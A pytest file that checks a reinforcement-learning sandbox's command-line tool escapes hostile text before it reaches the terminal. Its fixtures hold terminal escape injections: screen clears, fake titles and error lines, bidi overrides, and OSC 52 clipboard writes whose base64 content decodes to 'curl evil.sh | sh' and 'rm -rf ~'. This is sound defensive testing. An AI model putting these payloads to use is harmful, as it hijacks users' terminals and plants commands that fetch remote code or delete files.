"""What reaches the terminal from outside is shown, never obeyed: one escaped, bounded line each.

The attack: an agent file whose stored coach hints (or whose name) hold terminal escapes. Printed
raw, `evaluate` would clear the screen, retitle the window, write the clipboard (OSC 52) and print
fake `error:` lines. Every string that did not come from our own code must arrive escaped.
"""

import json
import re
import struct
import unicodedata
from pathlib import Path

import pytest
import safetensors.numpy

import main

HOSTILE_HINTS = [
    "\x1b[2J\x1b[3J\x1b[H",  # clear the screen and the scrollback
    "\x1b]0;sudo password accepted\x07",  # a fake window title
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # OSC 52: write the clipboard
    "fine\nerror: your agent file is corrupt, run the repair command below",  # a fake error line
    "\rcoach: overwrite this line",
    "\u202eevil\u202c and \u200bzero width",  # a bidi override hides what follows
    "\x9b31m C1 control",
    "x" * 2000,  # as long as a stored hint may be
]
# What a terminal acts on: C0/C1 controls (newline only as a line's end) and format characters.
_UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def _unsafe(text: str) -> list[str]:
    return sorted({c for c in text if _UNSAFE.match(c) or unicodedata.category(c) in ("Cf", "Zl", "Zp")})


def _rewrite(path: Path, change) -> None:
    """Edit an agent file's JSON metadata in place; the result is a file the loader accepts."""
    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    meta = json.loads(data[8:8 + n])["__metadata__"]
    info = json.loads(meta["json"])
    change(info)
    path.write_bytes(safetensors.numpy.save(safetensors.numpy.load(data), metadata=dict(meta, json=json.dumps(info))))


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("terminal") / "run.agent"
    assert main.main(["train", "--episodes", "2", "--quiet", "--eval-episodes", "0", "--set", "memory_capacity=300",
                      "--save", str(path)]) == 0
    return path


def test_evaluate_shows_hostile_saved_hints_escaped_one_line_each(trained, tmp_path, capsys):
    path = tmp_path / "hostile.agent"
    path.write_bytes(trained.read_bytes())
    _rewrite(path, lambda info: info.update(hints=HOSTILE_HINTS))
    capsys.readouterr()
    assert main.main(["evaluate", str(path), "--episodes", "1"]) == 0
    out, err = capsys.readouterr()
    assert _unsafe(out + err) == []
    lines = out.splitlines()
    shown = [line for line in lines if line.startswith("coach when saved: ")]
    assert len(shown) == len(HOSTILE_HINTS) and len(lines) == len(HOSTILE_HINTS) + 1  # the result, then the hints
    assert not any(line.startswith(("error:", "coach:")) for line in lines) and err == ""
    assert r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" in out and r"fine\nerror: your agent" in out
    assert r"\u202eevil" in out
    assert "… (2,000 characters)" in shown[-1] and len(shown[-1]) < 700


def test_a_hostile_file_name_in_the_resume_note_is_escaped(tmp_path, capsys):
    path = tmp_path / "a\x1b]52;c;cm0gLXJmIH4=\x07\nerror: fake.agent"
    assert main.main(["train", "--episodes", "1", "--quiet", "--eval-episodes", "0", "--no-memory",
                      "--save", str(path)]) == 0
    capsys.readouterr()
    assert main.main(["train", "--resume", str(path), "--episodes", "1", "--quiet", "--eval-episodes", "0"]) == 0
    out, err = capsys.readouterr()
    assert _unsafe(out + err) == []
    assert len(err.splitlines()) == 1 and err.startswith("note: a\\x1b]52;c;cm0gLXJmIH4=\\x07\\nerror: fake.agent")


@pytest.mark.parametrize("args", [
    ["train", "\x1b]52;c;aGk=\x07"],  # argparse echoes unrecognised arguments as they are
    ["train", "--every", "1", "x\nerror: fake"],
    ["evaluate", "a.agent", "b" * 100_000],
    ["\x1b[2J" + "c" * 100_000],  # an unknown command
    ["screenshot", "o.png", "--size", "9" * 100_000],
    ["screenshot", "o.png", "--size", "\x1b]0;title\x07"],
])
def test_argument_errors_are_one_escaped_bounded_line(args, capsys):
    assert main.main(args) == 2
    out, err = capsys.readouterr()
    assert out == "" and _unsafe(err) == []
    assert len(err.splitlines()) == 1 and "error:" in err and len(err) < 1000


def test_errors_quoting_values_from_files_are_one_escaped_line(tmp_path, capsys):
    config = tmp_path / "c.toml"
    config.write_text('env_id = "\\u001b]52;c;aGk=\\u0007\\nerror: fake\\u202e"\n')
    assert main.main(["train", "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert _unsafe(err) == [] and len(err.splitlines()) == 1 and err.startswith("error: env_id = ")


def test_text_shown_never_raises_and_stays_on_one_line():
    from sandbox.core.config import shown

    deep: list = []
    for _ in range(100_000):
        deep = [deep]
    for value in (10**5000, deep, "\x1b]52;c;x\x07\n" * 1000, {"k\u202e": b"\x1b"}):
        text = shown(value)
        assert _unsafe(text) == [] and len(text) <= 60
